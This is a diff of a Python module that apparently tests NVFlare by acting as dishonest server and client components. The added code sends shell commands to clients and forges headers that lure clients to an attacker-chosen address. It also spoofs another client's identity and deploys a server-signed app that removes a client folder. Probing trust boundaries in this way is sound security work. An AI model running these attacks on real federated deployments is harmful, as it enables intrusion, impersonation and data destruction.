@@ -1,18 +1,25 @@
-"""A part of a dishonest server's own process: once a job runs, it sends its clients what NVFlare's clients answer, and
-keeps each answer in a line of the file that HOSTILE names."""
+"""Parts of dishonest members' own processes: once a job runs, they send clients what NVFlare's clients answer, and keep
+each answer in a line of the file that HOSTILE names."""
 
 import json
 import os
+import socket
+import tempfile
 import threading
 import time
+from pathlib import Path
 
 from nvflare.apis.event_type import EventType
 from nvflare.apis.fl_component import FLComponent
-from nvflare.apis.fl_constant import AdminCommandNames, FLContextKey
+from nvflare.apis.fl_constant import AdminCommandNames, FLContextKey, ReservedKey
 from nvflare.apis.job_def import JobMetaKey
-from nvflare.fuel.f3.cellnet.defs import CellChannel, MessageHeaderKey, ReturnCode
+from nvflare.apis.shareable import ReservedHeaderKey, Shareable
+from nvflare.fuel.f3.cellnet.defs import CellChannel, MessageHeaderKey, MessageType, ReturnCode
+from nvflare.fuel.f3.cellnet.utils import encode_payload
+from nvflare.fuel.utils.zip_utils import zip_directory_to_bytes
+from nvflare.lighter.utils import load_private_key_file, sign_folders
 from nvflare.private.admin_defs import Message
-from nvflare.private.defs import SysCommandTopic, new_cell_message
+from nvflare.private.defs import RequestHeader, SysCommandTopic, TrainingTopic, new_cell_message
 
 CLIENTS = ("c0", "c2")
 TO_CLIENTS = [(CellChannel.CLIENT_MAIN, SysCommandTopic.SHELL, Message(SysCommandTopic.SHELL, "ls"))]
@@ -23,33 +30,107 @@ TO_JOBS = [
 ]
 OF_CELLS = ("process_info", "config_vars", "peers", "cells", "list_pools")
 TO_BOTH = [("_net_manager", topic, "rss") for topic in OF_CELLS]
-GONE = (ReturnCode.TARGET_UNREACHABLE, ReturnCode.COMM_ERROR, ReturnCode.TIMEOUT)
 
 
-class Hostile(FLComponent):
+class Server(FLComponent):
     def handle_event(self, event_type, fl_ctx):
         if event_type == EventType.JOB_STARTED:
             job = fl_ctx.get_prop(FLContextKey.EVENT_DATA)[JobMetaKey.JOB_ID.value]
-            threading.Thread(target=asked, args=(fl_ctx.get_engine().get_cell(), job), daemon=True).start()
+            begun(by_the_server, fl_ctx, job)
 
 
-def asked(cell, job: str) -> None:
+class Client(FLComponent):
+    def handle_event(self, event_type, fl_ctx):
+        if event_type == EventType.AFTER_JOB_LAUNCH:
+            begun(by_a_client, fl_ctx, fl_ctx.get_prop(FLContextKey.JOB_META)[JobMetaKey.JOB_ID.value])
+
+
+def begun(function, fl_ctx, job: str) -> None:
+    threading.Thread(target=function, args=(fl_ctx.get_engine().get_cell(), job), daemon=True).start()
+
+
+def by_the_server(cell, job: str) -> None:
     for client in CLIENTS:
         for message in [*TO_CLIENTS, *TO_BOTH]:
             ask(cell, client, *message)
+        keep(client, "own", "another address", "ok" if lured(cell, client) else "nobody came", "")
     for client in CLIENTS:
-        while ask(cell, f"{client}.{job}", *TO_BOTH[0], keep=False) in GONE:
-            time.sleep(0.1)
+        there(cell, f"{client}.{job}")
         for message in [*TO_JOBS, *TO_BOTH]:
             ask(cell, f"{client}.{job}", *message)
+    for client in CLIENTS:
+        ask(cell, client, CellChannel.CLIENT_MAIN, TrainingTopic.DEPLOY, deployed_as("local"))
 
 
-def ask(cell, target: str, channel: str, topic: str, content, keep: bool = True) -> str:
+def by_a_client(cell, job: str) -> None:
+    """A task for another's job process: by `setup` it would become the server there."""
+    task = Shareable()
+    task.set_header(ReservedHeaderKey.TASK_NAME, "none of ours")
+    task.set_peer_props({ReservedKey.RUN_NUM: job, ReservedKey.IDENTITY_NAME: "c1"})
+    for client in CLIENTS:
+        there(cell, f"{client}.{job}")
+        ask(cell, f"{client}.{job}", CellChannel.AUX_COMMUNICATION, "__do_task__", task)
+
+
+def deployed_as(job: str) -> Message:
+    """The folder of that name is removed first. Signed, as clients want it: by the server's own key, which will do."""
+    with tempfile.TemporaryDirectory() as folder:
+        Path(folder, "config").mkdir()
+        Path(folder, "config/config_fed_client.json").write_text("{}")
+        sign_folders(folder, load_private_key_file("startup/server.key"), "startup/server.crt")
+        content = zip_directory_to_bytes(folder, "")
+    message = Message(TrainingTopic.DEPLOY, content)
+    headers = {RequestHeader.JOB_ID: job, RequestHeader.JOB_META: {"job_id": job}, RequestHeader.APP_NAME: "app"}
+    for name, value in headers.items():
+        message.set_header(name, value)
+    return message
+
+
+def lured(cell, client: str) -> bool:
+    """Whether a client connects to an address that a message from the server names."""
+    with socket.create_server(("127.0.0.1", 0)) as waiting:
+        message = new_cell_message({}, Message("none", ""))
+        headers = {
+            MessageHeaderKey.CHANNEL: CellChannel.CLIENT_MAIN,
+            MessageHeaderKey.TOPIC: "none",
+            MessageHeaderKey.FROM_CELL: "server",
+            MessageHeaderKey.TO_CELL: client,
+            MessageHeaderKey.ORIGIN: "somebody",
+            MessageHeaderKey.DESTINATION: client,
+            MessageHeaderKey.REQ_ID: "1",
+            MessageHeaderKey.REPLY_EXPECTED: False,
+            MessageHeaderKey.MSG_TYPE: MessageType.REQ,
+            MessageHeaderKey.ROUTE: [("server", time.time())],
+            MessageHeaderKey.CONN_URL: f"tcp://127.0.0.1:{waiting.getsockname()[1]}",
+        }
+        message.add_headers(headers)
+        encode_payload(message)
+        cell.core_cell._send_to_endpoint(cell.core_cell._find_endpoint(client, message)[1], message)
+        waiting.settimeout(2.0)
+        try:
+            waiting.accept()[0].close()
+        except TimeoutError:
+            return False
+        return True
+
+
+def there(cell, target: str) -> None:
+    """Waits for a process."""
+    message = TO_BOTH[0]
+    while cell.core_cell.send_request(*message[:2], target, new_cell_message({}, message[2]), timeout=5.0).get_header(
+        MessageHeaderKey.RETURN_CODE
+    ) in (ReturnCode.TARGET_UNREACHABLE, ReturnCode.COMM_ERROR, ReturnCode.TIMEOUT):
+        time.sleep(0.1)
+
+
+def ask(cell, target: str, channel: str, topic: str, content) -> None:
     answer = cell.core_cell.send_request(channel, topic, target, new_cell_message({}, content), timeout=5.0)
-    code = answer.get_header(MessageHeaderKey.RETURN_CODE)
-    if keep:
-        client, _, job = target.partition(".")
-        line = {"client": client, "process": "job" if job else "own", "topic": topic, "code": code}
-        with open(os.environ["HOSTILE"], "a") as file:
-            file.write(json.dumps({**line, "said": str(getattr(answer.payload, "body", answer.payload))}) + "\n")
-    return code
+    client, _, job = target.partition(".")
+    said = str(getattr(answer.payload, "body", answer.payload))
+    keep(client, "job" if job else "own", topic, answer.get_header(MessageHeaderKey.RETURN_CODE), said)
+
+
+def keep(client: str, process: str, topic: str, code: str, said: str) -> None:
+    line = {"client": client, "process": process, "topic": topic, "code": code, "said": said}
+    with open(os.environ["HOSTILE"], "a") as file:
+        file.write(json.dumps(line) + "\n")
